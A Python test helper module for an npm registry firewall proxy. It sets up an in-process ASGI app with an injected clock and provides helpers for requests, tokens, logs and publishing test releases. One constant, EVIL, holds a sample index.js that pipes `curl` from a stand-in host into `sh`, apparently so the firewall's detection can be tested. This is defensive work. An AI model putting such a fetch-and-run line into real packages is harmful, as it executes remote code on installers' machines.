"""A whole firewall in this process, before our test registry: asked over ASGI, its clock injected.

Nothing of it listens, small artifacts are read without a worker process, and nobody waits between
two attempts.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from tests.registry import Registry
from tests.trusting import trust

from pratique.config import read_policy
from pratique.gather.http import Client, Limits
from pratique.gather.pool import Pool
from pratique.model.policy import Policy
from pratique.model.private import Right
from pratique.model.record import Decision, Request
from pratique.model.registry import Registries
from pratique.proxy import quarantine, running, tokens
from pratique.proxy.protocol import REASON
from pratique.proxy.running import Running, create_app
from pratique.proxy.settings import Settings
from pratique.store.firewall.port import Wanted

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)
PUBLIC = "http://127.0.0.1:4873/"
HOST = "127.0.0.1:4873"
SHORT = "application/vnd.npm.install-v1+json"
EVIL = {"index.js": "require('child_process').exec('curl https://e.invalid | sh');"}
_LIMITS = Limits(connect=5, read=5, total=20, attempts=2)


def days(number: float) -> datetime:
    """So many days ago."""
    return NOW - timedelta(days=number)


def policy(text: str = "", preset: str = "recommended") -> Policy:
    """A preset, and what `text` says beside it."""
    source = f'preset = "{preset}"\n{text}'
    return read_policy(source.encode(), "pratique.toml", now=NOW)


@dataclass
class Clock:
    """The time, which stands until it is moved."""

    at: datetime = NOW

    def __call__(self) -> datetime:
        return self.at

    def move(self, **span: float) -> None:
        self.at += timedelta(**span)


@dataclass(frozen=True)
class Reply:
    """What a client gets."""

    status: int
    headers: Mapping[str, str]
    body: bytes
    reason: str

    def json(self) -> Any:
        return json.loads(self.body)

    @property
    def versions(self) -> list[str]:
        assert self.status == 200, self.body
        return list(self.json()["versions"])

    @property
    def error(self) -> str:
        return str(self.json()["error"])


@dataclass
class Stand:
    """A firewall that is running, the registry behind it, and the clock of both."""

    running: Running
    registry: Registry
    clock: Clock
    loop: asyncio.AbstractEventLoop = field(repr=False)

    def ask(
        self,
        path: str,
        method: str = "GET",
        *,
        body: bytes | list[bytes] = b"",
        host: str | None = HOST,
        token: str = "",
        client: str = "127.0.0.1",
        **headers: str,
    ) -> Reply:
        """Ask it for `path`, without the leading slash; `if_none_match` is a header's name."""
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        if host is not None:
            named["host"] = host
        if token:
            named["authorization"] = f"Bearer {token}"
        pieces = body if isinstance(body, list) else [body]
        return self.loop.run_until_complete(self._asked(method, path, named, pieces, client))

    async def _asked(
        self,
        method: str,
        path: str,
        headers: Mapping[str, str],
        pieces: list[bytes],
        client: str,
    ) -> Reply:
        raw, _, query = path.partition("?")
        reasons: list[str] = []
        sent: list[Any] = []
        messages = [
            {"type": "http.request", "body": piece, "more_body": number < len(pieces)}
            for number, piece in enumerate(pieces, 1)
        ]

        async def receive() -> Any:
            return messages.pop(0) if messages else {"type": "http.disconnect"}

        async def send(message: Any) -> None:
            sent.append(message)

        scope = {
            "type": "http",
            "method": method,
            "raw_path": b"/" + raw.encode("latin-1"),
            "query_string": query.encode("latin-1"),
            "headers": [(k.encode("latin-1"), v.encode("latin-1")) for k, v in headers.items()],
            "client": (client, 50_000),
            REASON: reasons.append,
        }
        await self.running.app(scope, receive, send)
        start, *rest = sent
        told = {name.decode("latin-1"): value.decode("latin-1") for name, value in start["headers"]}
        whole = b"".join(each.get("body", b"") for each in rest)
        return Reply(start["status"], told, whole, reasons[-1] if reasons else "")

    def token(
        self,
        name: str = "alice",
        *rights: Right,
        packages: tuple[str, ...] = (),
        expires_at: datetime | None = None,
        seed: int = 1,
    ) -> str:
        """A new token that the firewall knows."""
        text = tokens.spelled(bytes([seed]) * 32)
        kept = tokens.made(
            text,
            name,
            rights=rights or (Right.READ,),
            now=self.clock(),
            packages=packages,
            expires_at=expires_at,
        )
        self.running.firewall.private.add_token(kept)
        return text

    def log(self, **wanted: Any) -> list[Any]:
        """What is on record by now, oldest first."""
        self.running.recording._write()
        found = list(self.running.firewall.record.log(Wanted(**wanted)))
        return [each.entry for each in sorted(found, key=lambda each: each.place)]

    def requests(self) -> list[Request]:
        return [each for each in self.log() if isinstance(each, Request)]

    def decisions(self) -> list[Decision]:
        return [each for each in self.log() if isinstance(each, Decision)]

    def blobs(self) -> set[str]:
        """The digests of what is stored."""
        return {each.sha512 for each in self.running.blobs}


@contextmanager
def standing(
    data: Path, registry: Registry, clock: Clock, judged_by: Policy | None = None, **more: Any
) -> Iterator[Stand]:
    """A firewall over the folder `data`, before `registry`; `more` are fields of `Settings`."""
    more.setdefault("patience", timedelta(minutes=2))
    place = data.parent / f"{data.name}-trust.json"
    trust(place, more.pop("keys", None), more.pop("root", None), updated=NOW)
    settings = Settings(
        data=data,
        policy=judged_by or policy(),
        registries=more.pop("registries", None) or Registries(default=registry.url),
        public_url=PUBLIC,
        trust=place,
        **more,
    )
    with pytest.MonkeyPatch.context() as patch:
        asking = partial(Client, limits=_LIMITS, sleep=lambda _seconds: None)
        patch.setattr(running, "Client", asking)
        patch.setattr(quarantine, "Pool", lambda _workers: Pool(1))
        made = create_app(settings, clock)
    loop = asyncio.new_event_loop()
    try:
        yield Stand(made, registry, clock, loop)
    finally:
        loop.run_until_complete(loop.shutdown_default_executor())
        loop.close()
        made.close()


def publish(registry: Registry, name: str = "left-pad", **more: Any) -> None:
    """Three old releases, all harmless."""
    for version, age in (("1.0.0", 900), ("1.0.1", 800), ("1.1.0", 700)):
        registry.publish(name, version, published=days(age), **more)
